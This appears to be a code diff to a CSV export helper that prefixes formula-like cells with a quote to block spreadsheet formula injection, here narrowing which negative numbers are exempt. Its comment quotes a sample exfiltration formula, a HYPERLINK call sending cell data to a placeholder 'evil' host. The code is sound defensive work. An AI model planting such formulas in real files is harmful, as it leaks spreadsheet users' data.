@@ -4,11 +4,13 @@
  * hostile (`=HYPERLINK("http://evil/?"&A1)`), so every CSV written for a person to open prefixes those cells with a
  * single quote, which makes the spreadsheet show them as text. A value that already starts with a quote gets one more,
  * so that reading the file back can always remove exactly one and get the original value. JSON outputs keep values
- * exact and do not go through here. A signed plain number (`-5`, `-1,234.50`) is left alone: a spreadsheet reads it
- * as the number it is, and a quote in front of every negative amount made the reports wrong to sum.
+ * exact and do not go through here. A negative number that a spreadsheet shows and saves back exactly as written
+ * (`-5`, `-1234.5`: no leading zero, no trailing decimal zero, no grouping, at most 15 digits) is left alone, since a
+ * quote in front of every negative amount made the reports wrong to sum; `+44` is still quoted, because a spreadsheet
+ * would save it back as `44`.
  */
 const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r']);
-const SIGNED_NUMBER = /^[-+]\d+(?:[.,]\d+)*$/;
+const SIGNED_NUMBER = /^-(?:[1-9]\d{0,14}|0(?=\.))(?:\.\d{0,13}[1-9])?$/;
 
 export function neutraliseCell(value: string): string {
   const first = value.charAt(0);
